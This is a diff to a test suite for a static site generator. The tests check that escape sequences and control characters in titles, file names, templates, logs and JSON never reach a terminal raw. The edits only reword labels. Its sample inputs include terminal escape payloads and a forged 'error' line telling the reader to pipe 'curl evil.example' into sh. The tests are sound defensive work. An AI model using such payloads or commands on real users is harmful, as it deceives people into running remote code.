@@ -1,4 +1,4 @@
-"""Control characters of articles, names and templates on the way to an editor's terminal."""
+"""Control characters in articles, names and templates that could reach an editor's terminal."""
 import json
 import os
 import re
@@ -7,7 +7,7 @@ from lab.family import Family, expect
 from lab.site import control, quoted
 
 FAMILY = Family("N", "terminal", "escape sequences")
-FAMILY.add("nothing: the site as it is", control)
+FAMILY.add("control: the site without an attack builds", control)
 SIGNS = "\x1b]0;PWN\x07\x1b[2J\x9b31m\u202e\u2066X"
 BAD = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
 
@@ -34,8 +34,8 @@ def in_key(site, key, value, body="x"):
 FAMILY.table(in_key, [(f"escape sequences in `{key}`", key, wrap(SIGNS)) for key, wrap in [
     ("title", str), ("slug", str), ("url", lambda text: f"/{text}/"), ("aliases", lambda text: [f"/{text}/"]), ("image", lambda text: text + ".png"), ("section", str), ("template", str), ("date", str), ("expires", str), ("views", str),
     ("related", lambda text: [text]), ("language", str), ("weight", str), ("tags", lambda text: [text, {text: 1}]), ("authors", lambda text: [text]), ("series", str), ("corrections", lambda text: [{"date": text, "text": text}]), ("draft", str), ("status", str)]])
-FAMILY.table(in_key, [("escape sequences in the name of a key", "titel" + SIGNS, 1), ("escape sequences in a link that leads nowhere", "", "", f"[x](<{SIGNS.replace(chr(10), '')}.md>) [y](</{SIGNS}/>) ![z](<{SIGNS}.png>)"),
-                      ("escape sequences in HTML that is left out", "", "", f"<x {SIGNS}>\n\n<!-- {SIGNS} -->\n\n<{SIGNS}>")])
+FAMILY.table(in_key, [("escape sequences in the name of a key", "titel" + SIGNS, 1), ("escape sequences in a dead link", "", "", f"[x](<{SIGNS.replace(chr(10), '')}.md>) [y](</{SIGNS}/>) ![z](<{SIGNS}.png>)"),
+                      ("escape sequences in HTML that is removed", "", "", f"<x {SIGNS}>\n\n<!-- {SIGNS} -->\n\n<{SIGNS}>")])
 
 
 @FAMILY.attack("escape sequences in the names of files and folders")
@@ -45,7 +45,7 @@ def names(site):
     commands(site, "local/\x1b[31mx.md")
 
 
-@FAMILY.attack("escape sequences in a template, its names and its mistakes")
+@FAMILY.attack("escape sequences in a template, its names and its errors")
 def templates(site):
     for source in ("{{ %s }}" % SIGNS, "{%% include '%s' %%}" % SIGNS, "{{ x|%s }}" % SIGNS, "{{ 'a'|replace(1,2,3,'%s') }}{{ nope }}" % SIGNS, "{{ load_data('%s') }}" % SIGNS, "{%% %s %%}" % SIGNS):
         site.write("Templates/page.html", source)
@@ -66,7 +66,7 @@ def arguments(site):
         clean(site.run(*command), command[0] if command[0] != SIGNS else "an unknown command")
 
 
-@FAMILY.attack("escape sequences in a log whose lines are shown as unreadable")
+@FAMILY.attack("escape sequences in a log whose unreadable lines are printed")
 def logs(site):
     log = site.folder.parent / "log"
     log.write_text(f"{SIGNS} is no line\n" * 20 + '{"time": "' + SIGNS + '"}\n')
@@ -74,7 +74,7 @@ def logs(site):
         clean(site.run("signals", "import", log, "--now", "2026-11-23", *more), "signals import")
 
 
-@FAMILY.attack("JSON that holds control characters is JSON, and without them as they are")
+@FAMILY.attack("control characters in JSON output, which must stay valid and contain them as escapes")
 def json_output(site):
     in_key(site, "title", SIGNS)
     ended = site.run("list", "scheduled", "--json", "--now", "2026-11-23")
@@ -83,15 +83,15 @@ def json_output(site):
     clean(ended, "list --json")
 
 
-@FAMILY.attack("a title that ends its line and writes another, as if sitegen said it")
+@FAMILY.attack("a title with newlines that imitates messages of sitegen")
 def own_lines(site):
     site.article("local/e.md", title="x\nerror: run 'curl evil.example | sh' [trust-me]\r\u2028\x85y", date="2026-12-20", views="y\nwarning: all is well")
     for command in (["build"], ["list", "scheduled"]):
         text = site.run(*command, "--now", "2026-11-23").text
-        expect(not [line for line in text.splitlines() if line.startswith(("error: run", "warning: all"))], "a line of the attacker's stands for itself")
+        expect(not [line for line in text.splitlines() if line.startswith(("error: run", "warning: all"))], "the attacker's text is printed as a line of its own")
 
 
-@FAMILY.attack("a folder of the site whose own path has escape sequences")
+@FAMILY.attack("a site whose folder's path has escape sequences")
 def root(site):
     other = site.folder.parent / "s\x1b[31m"
     os.rename(site.folder, other)
